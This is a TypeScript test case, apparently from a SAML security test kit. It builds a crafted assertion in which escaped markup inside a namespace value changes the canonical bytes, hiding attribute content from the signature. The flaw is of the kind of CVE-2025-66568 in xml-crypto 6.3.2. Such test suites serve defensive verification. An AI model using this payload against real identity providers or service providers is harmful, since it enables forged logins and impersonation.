/** The same with elements: references in the name become markup in the canonical bytes, and the tree that came hides all between two values. */
import type { Kit, SamlCase } from './kit.js';

/** Two values that declare the same prefix. */
function twin(kit: Kit): string {
  const value = (text: string) => `<saml:AttributeValue xmlns:x="urn:x" x:a="1">${text}</saml:AttributeValue>`;
  const attributes = `<saml:Attribute Name="email">${value('mallory')}</saml:Attribute><saml:Attribute Name="groups">${value('staff')}</saml:Attribute>`;
  return kit.answer({ attributes: `<saml:AttributeStatement>${attributes}</saml:AttributeStatement>` });
}

export const attack: SamlCase = {
  name: 'a namespace whose name holds markup in references',
  source: 'of the kind of CVE-2025-66568 (canonicalization); in xml-crypto 6.3.2',
  check: 'saml.xml',
  build: (kit) => {
    const inner = /xmlns:x="urn:x"( x:a="1">.*<saml:AttributeValue xmlns:x="urn:x)"/;
    const toReferences = (text: string) => text.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
    return twin(kit).replace(inner, (_, text: string) => `xmlns:x="urn:x&quot;${toReferences(text)}"`);
  },
  twin: (kit) => twin(kit),
};
